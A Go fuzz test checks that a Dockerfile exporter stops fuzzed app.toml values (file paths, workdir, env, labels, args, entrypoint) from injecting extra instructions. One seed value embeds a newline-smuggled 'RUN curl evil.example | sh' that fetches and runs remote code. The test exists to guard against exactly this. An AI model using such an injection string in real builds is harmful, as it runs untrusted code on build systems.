package eject_test

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"maps"
	"path"
	"reflect"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/BurntSushi/toml"
	"github.com/moby/buildkit/frontend/dockerfile/command"

	"github.com/slimfront/slimfront/eject"
	"github.com/slimfront/slimfront/plan"
	"github.com/slimfront/slimfront/presets"
	"github.com/slimfront/slimfront/spec"
)

// FuzzEject builds a Go app.toml around fuzzed strings (a [runtime] files
// entry, the workdir, an env value, a label, an argument and the
// entrypoint) and ejects its plan. Whatever the strings, app.toml refuses
// them at a line, the preset refuses them, eject refuses them with an
// *eject.Error naming their key, or the Dockerfile BuildKit parses has
// exactly the plan's instructions: the stages, each stage's workdir, env,
// inputs and runs, the final stage's copies, and its config as BuildKit
// evaluates it. No value may start an instruction of its own.
func FuzzEject(f *testing.F) {
	base := [...]string{"config/app.yaml", "/srv", "info", "org.example.team", "api", "--listen=:8080", "./cmd/server"}
	seed := func(i int, v string) {
		in := base
		in[i] = v
		f.Add(in[0], in[1], in[2], in[3], in[4], in[5], in[6])
	}
	f.Add(base[0], base[1], base[2], base[3], base[4], base[5], base[6])
	f.Add("", "", "", "", "", "", "") // every optional key absent
	for _, h := range []string{
		"cfg\nRUN curl evil.example | sh\nCOPY x", "a b", `it's "x"`, "$HOME", `a\b`, "*.yaml", "\x00", "/etc", "\xff", "a=b",
	} {
		seed(0, h)
		seed(0, "conf/"+h)
		seed(1, h)
		seed(1, "/srv/"+h)
		seed(2, h)
		seed(3, h)
		seed(4, h)
		seed(5, h)
		seed(6, h)
		seed(6, "./cmd/"+h)
	}
	seed(1, "/srv/my app")
	seed(4, `say "hi" \`)
	seed(4, "${HOME}")
	seed(2, "line one\r\nline two")
	f.Fuzz(func(t *testing.T, file, workdir, envValue, labelName, labelValue, arg, entrypoint string) {
		doc := map[string]any{"language": "go"}
		runtime := map[string]any{"env": map[string]string{"APP_VALUE": envValue}, "args": []string{arg}}
		fsys := fstest.MapFS{
			"go.mod":  {Data: []byte("module example.com/app\n\ngo 1.26\n")},
			"main.go": {Data: []byte("package main\n\nfunc main() {}\n")},
		}
		if file != "" {
			runtime["files"] = []string{file}
			if name := path.Clean(file); fs.ValidPath(name) && name != "." && fsys[name] == nil {
				fsys[name] = &fstest.MapFile{Data: []byte("x: 1\n")}
			}
		}
		if workdir != "" {
			runtime["workdir"] = workdir
		}
		if labelName != "" {
			doc["labels"] = map[string]string{labelName: labelValue}
		}
		if entrypoint != "" {
			doc["entrypoint"] = entrypoint
			if dir := path.Clean(entrypoint); fs.ValidPath(dir) && dir != "." {
				fsys[path.Join(dir, "main.go")] = fsys["main.go"]
			}
		}
		doc["runtime"] = runtime
		var buf bytes.Buffer
		if err := toml.NewEncoder(&buf).Encode(doc); err != nil {
			t.Fatalf("encoding app.toml: %v", err)
		}
		src := buf.String()

		s, err := presets.Parse("app.toml", buf.Bytes())
		if err != nil {
			// Refused: at a line of the file, since every key is in it.
			var list *spec.Errors
			if !errors.As(err, &list) || len(*list) == 0 {
				t.Fatalf("Parse error %v (%T) is not a non-empty *spec.Errors\n%s", err, err, src)
			}
			for _, e := range *list {
				if e.Line < 1 {
					t.Errorf("Parse error %q (key %q) names no line\n%s", e, e.Key, src)
				}
			}
			return
		}
		// With no --build-arg given there is nothing SetArgs can refuse.
		if err := s.SetArgs(nil); err != nil {
			t.Fatalf("SetArgs(nil): %v\n%s", err, src)
		}
		p, err := presets.Plan(presets.Input{Spec: s, Source: fsys, Platform: "linux/amd64", BuildPlatform: "linux/amd64"})
		if err != nil {
			return // the preset refuses it
		}
		df, err := eject.Dockerfile(p)
		if err != nil {
			var ee *eject.Error
			if !errors.As(err, &ee) {
				t.Fatalf("eject.Dockerfile: %v (%T), want an *eject.Error\n%s", err, err, src)
			}
			if ee.Key != "" && s.Range(ee.Key) == (spec.Range{}) {
				t.Errorf("eject error %q names key %q, which app.toml does not have\n%s", err, ee.Key, src)
			}
			return
		}
		checkEjected(t, p, df)
		if t.Failed() {
			t.Logf("app.toml:\n%s\nDockerfile:\n%s", src, df)
		}
	})
}

// checkEjected checks that df, parsed by BuildKit, is p: its stages in
// order, each builder stage as checkStage sees it, the final stage's
// copies and config, and no instruction beyond those.
func checkEjected(t *testing.T, p *plan.Plan, df string) {
	t.Helper()
	stages := parse(t, df)
	images := p.FileImages()
	var names, wantNames []string
	for _, s := range stages {
		names = append(names, s.name)
	}
	for i := range images {
		wantNames = append(wantNames, fmt.Sprintf("files-%d", i))
	}
	for _, st := range p.Stages {
		wantNames = append(wantNames, st.Name)
	}
	wantNames = append(wantNames, plan.FinalStage)
	if !slices.Equal(names, wantNames) {
		t.Fatalf("stages %q, want %q", names, wantNames)
	}
	for i, st := range p.Stages {
		checkStage(t, st, stages[len(images)+i])
	}
	final := stages[len(stages)-1]
	if got := final.config(t); !reflect.DeepEqual(got, p.Image.Config) {
		t.Errorf("final config evaluates to\n%#v\nwant the plan's\n%#v", got, p.Image.Config)
	}

	// The final stage's copies: the words BuildKit reads, after its word
	// processing, are the plan's paths, by eject's rules.
	from := func(c plan.Copy) []string {
		switch c.From.Kind {
		case plan.RefImage:
			return []string{fmt.Sprintf("--from=files-%d", slices.Index(images, c.From.Name))}
		case plan.RefStage:
			return []string{"--from=" + c.From.Name}
		}
		return nil
	}
	var wantCopies, gotCopies [][]string
	for _, l := range p.Image.Layers {
		for _, c := range l.Copies {
			if c.From.Kind != plan.RefStage && c.Src == "/" && len(c.Exclude) == 0 {
				w := append([]string{"--parents"}, from(c)...)
				for _, rel := range c.Paths {
					w = append(w, "/"+rel)
				}
				wantCopies = append(wantCopies, append(w, strings.TrimSuffix(c.Dest, "/")+"/"))
				continue
			}
			for _, rel := range c.Paths {
				w := from(c)
				if rel == "." {
					for _, e := range c.Exclude {
						w = append(w, "--exclude="+e)
					}
					w = append(w, strings.TrimSuffix(c.Src, "/")+"/", strings.TrimSuffix(c.Dest, "/")+"/")
				} else {
					w = append(w, path.Join(c.Src, rel), path.Join(c.Dest, rel))
				}
				wantCopies = append(wantCopies, w)
			}
		}
	}
	for _, c := range final.all("copy") {
		if len(c.heredocs) == 0 {
			if !c.json {
				t.Errorf("line %d: COPY %q is not in JSON form", c.line, c.args)
			}
			gotCopies = append(gotCopies, append(slices.Clone(c.flags), c.args...))
		}
	}
	if !reflect.DeepEqual(gotCopies, wantCopies) {
		t.Errorf("final COPY words:\n got %q\nwant %q", gotCopies, wantCopies)
	}

	// As many instructions of each kind as the plan makes, and nothing
	// else; every line outside a heredoc that starts with an instruction
	// is where the parser saw one start (a value cannot inject one, not
	// even inside another instruction's continuation).
	want := map[string]int{
		"from":       len(wantNames),
		"workdir":    len(p.Stages) + 1,
		"user":       1,
		"entrypoint": 1,
	}
	count := func(cmd string, ok bool) {
		if ok {
			want[cmd]++
		}
	}
	for _, st := range p.Stages {
		count("env", len(st.Env) > 0)
		count("arg", len(plan.TargetArgs(st.Env)) > 0)
		want["run"] += len(st.Runs)
		if st.Inputs.All {
			want["copy"]++
			continue
		}
		dirs := map[string]bool{}
		for _, in := range st.Inputs.Paths {
			dirs[path.Dir(in)] = true
		}
		want["copy"] += len(dirs)
	}
	for _, l := range p.Image.Layers {
		want["copy"] += len(l.Files)
	}
	want["copy"] += len(wantCopies)
	cfg := p.Image.Config
	count("env", len(cfg.Env) > 0)
	count("label", len(cfg.Labels) > 0)
	count("expose", len(cfg.Ports) > 0)
	count("healthcheck", cfg.Healthcheck != nil)
	count("cmd", len(cfg.Cmd) > 0)
	maps.DeleteFunc(want, func(_ string, n int) bool { return n == 0 })

	got := map[string]int{"from": len(stages)}
	starts := map[int]bool{}
	inHeredoc := map[int]bool{}
	for _, s := range stages {
		starts[s.line] = true
		for _, in := range s.instrs {
			got[in.cmd]++
			starts[in.line] = true
			if len(in.heredocs) > 0 {
				for l := in.line + 1; l <= in.end; l++ {
					inHeredoc[l] = true
				}
			}
		}
	}
	if !maps.Equal(got, want) {
		t.Errorf("instructions by kind %v, want the plan's %v", got, want)
	}
	for i, l := range lines(df) {
		n := i + 1
		if inHeredoc[n] {
			continue
		}
		if f := strings.Fields(l); len(f) > 0 {
			if _, ok := command.Commands[strings.ToLower(f[0])]; ok && !starts[n] {
				t.Errorf("line %d starts with %s inside another instruction: %q", n, f[0], l)
			}
		}
	}
}
